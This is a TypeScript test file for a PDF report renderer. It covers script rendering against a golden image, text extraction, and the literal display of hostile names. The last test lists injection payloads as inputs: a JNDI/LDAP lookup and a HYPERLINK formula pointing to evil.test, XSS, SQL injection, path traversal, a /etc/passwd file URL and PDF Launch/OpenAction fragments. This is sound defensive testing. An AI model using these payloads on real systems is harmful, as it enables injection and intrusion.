// A page in every script: its appearance and the text that programs extract.
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import pixelmatch from 'pixelmatch';
import { PNG } from 'pngjs';
import type { DocumentInfo } from '../../../lib/adapters/pdf/draw.ts';
import { drawDocument } from '../../../lib/adapters/pdf/draw.ts';
import type { Page, Part } from '../../../lib/adapters/pdf/page-elements.ts';
import { lineAt } from '../../../lib/adapters/pdf/text/typesetter.ts';
import type { Direction } from '../../../lib/i18n/text-direction.ts';
import type { Operation } from '../../../lib/charts/draw-operations.ts';
import { textStyles } from '../../../lib/charts/theme.ts';
import { messagesFor } from '../../../lib/i18n/catalogues.ts';
import { LANGUAGES } from '../../../lib/i18n/messages.ts';
import { createReport, createStoreReport } from '../../support/test-reports.ts';
import { READERS } from '../../support/pdf-readers/extract-text.ts';
import { comparable } from '../../support/pdf-readers/text-pages.ts';
import { SCRIPT_SAMPLES } from '../../support/scripts-of-the-world.ts';
import { renderPdf } from '../../unit/adapters/pdf/rendered.ts';

const tools = ['qpdf', 'pdftoppm'].filter((tool) => spawnSync(tool, ['-v']).error !== undefined);
const needsTools = { skip: tools.length === 0 ? false : `needs ${tools.join(' and ')}` };
const golden = new URL('../../golden/scripts.png', import.meta.url);
/** Tolerates anti-aliasing of other versions of the rasterizer; a wrong glyph differs more. */
const MOST_PIXELS = 400;

const ABOUT: DocumentInfo = {
  title: 'Writings',
  language: 'en-GB',
  at: new Date('2026-11-16T18:00:00Z'),
  attachment: {
    name: 'report.json',
    contentType: 'application/json',
    description: '',
    bytes: Buffer.from('{}'),
  },
};

function part(operations: readonly Operation[]): Part {
  return { element: { role: 'P', parent: null }, operations, dx: 0, dy: 0 };
}

function pageOf(direction: Direction): Page {
  const [width, height] = [595, 30 * SCRIPT_SAMPLES.length + 50];
  const x = direction === 'ltr' ? 190 : width - 190;
  const align = direction === 'ltr' ? 'left' : 'right';
  return {
    width,
    height,
    direction,
    parts: SCRIPT_SAMPLES.map(([writing, sample], i) => {
      const y = 40 + i * 30;
      return part([
        ...lineAt(writing, textStyles.label, direction === 'ltr' ? 40 : width - 40, y, align),
        ...lineAt(sample, textStyles.body, x, y, align),
        ...lineAt(sample, textStyles.strong, x, y + 13, align),
      ]);
    }),
  };
}

async function pdf(): Promise<Uint8Array> {
  return drawDocument([pageOf('ltr'), pageOf('rtl')], ABOUT);
}

/** The text of all pages as Chrome extracts it. `lineBreak`: in place of line breaks. */
async function textOf(bytes: Uint8Array, lineBreak = ''): Promise<string> {
  const pages = await READERS.P(bytes);
  return comparable(pages.join('\r\n').replaceAll('\r\n', lineBreak));
}

function wordsOf(text: string): readonly string[] {
  return comparable(text).match(/[\p{L}\p{M}]+/gu) ?? [];
}

/** The two pages stacked vertically. */
function painted(bytes: Uint8Array): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'writings-'));
  try {
    writeFileSync(join(folder, 'page.pdf'), bytes);
    execFileSync('pdftoppm', ['-r', '75', '-gray', '-png', 'page.pdf', 'page'], { cwd: folder });
    const [firstImage, secondImage] = ['page-1.png', 'page-2.png'].map((name) =>
      PNG.sync.read(readFileSync(join(folder, name))),
    );
    assert.ok(firstImage !== undefined && secondImage !== undefined);
    const { width, height } = firstImage;
    const combined = new PNG({ width, height: 2 * height });
    PNG.bitblt(firstImage, combined, 0, 0, width, height, 0, 0);
    PNG.bitblt(secondImage, combined, 0, 0, width, height, 0, height);
    return PNG.sync.write(combined, { colorType: 0 });
  } finally {
    rmSync(folder, { recursive: true });
  }
}

describe('a page in every script', () => {
  it('matches test/golden/scripts.png (UPDATE_GOLDEN=1 writes it)', needsTools, async () => {
    const picture = painted(await pdf());
    if (process.env['UPDATE_GOLDEN'] === '1') writeFileSync(golden, picture);
    const [actual, expected] = [PNG.sync.read(picture), PNG.sync.read(readFileSync(golden))];
    const { width, height } = expected;
    assert.deepEqual([actual.width, actual.height], [width, height]);
    const differentPixels = pixelmatch(actual.data, expected.data, undefined, width, height, {
      threshold: 0.3,
    });
    assert.ok(differentPixels <= MOST_PIXELS, `${String(differentPixels)} pixels differ`);
  });

  it('keeps the words on both sides of a line’s end apart, in every language', async () => {
    for (const locale of LANGUAGES) {
      const { bytes } = await renderPdf(createStoreReport(1), { locale, paper: 'A4' });
      const { methodWeek, view } = messagesFor(locale);
      const shown = await textOf(bytes, locale === 'ar' ? ' ' : '');
      const shownWords = new Set(wordsOf(shown));
      for (const text of [methodWeek, view.methodPlace]) {
        // Readers order the numbers and signs of right-to-left lines in different ways.
        const isShown =
          locale === 'ar'
            ? wordsOf(text).every((word) => shownWords.has(word))
            : shown.includes(text);
        assert.ok(isShown, `${locale}: ${text}`);
      }
    }
  });

  it('shows hostile names literally', async () => {
    const hostile = [
      '../../x',
      'a/b',
      'CON',
      '%2e%2e',
      '=HYPERLINK("http://evil.test")',
      '@SUM(1+1)*cmd',
      '+1',
      '-1',
      '<script>alert(1)</script>',
      '<b>&amp;</b>',
      '${jndi:ldap://evil.test}',
      '{{7*7}}',
      'javascript:alert(1)',
      'file:///etc/passwd',
      'data:text/html,x',
      ')>> /OpenAction 1 0 R',
      '<</S/Launch>>',
      '\\',
      "'; DROP TABLE x; --",
    ];
    const report = createReport({
      key: 1,
      name: 'Kiosk',
      surveys: hostile.map((name, i) => ({ key: i + 1, name })),
    });
    const shown = await textOf((await renderPdf(report)).bytes);
    for (const name of hostile) assert.ok(shown.includes(name), name);
    // Removed characters leave the rest of a name.
    const hidden = createReport({
      key: 1,
      name: 'a\u0000\u001b[31m\u202eb\u200b\ud800',
      surveys: [],
    });
    assert.match(await textOf((await renderPdf(hidden)).bytes), /a\[31mb\ufffd/);
  });
});
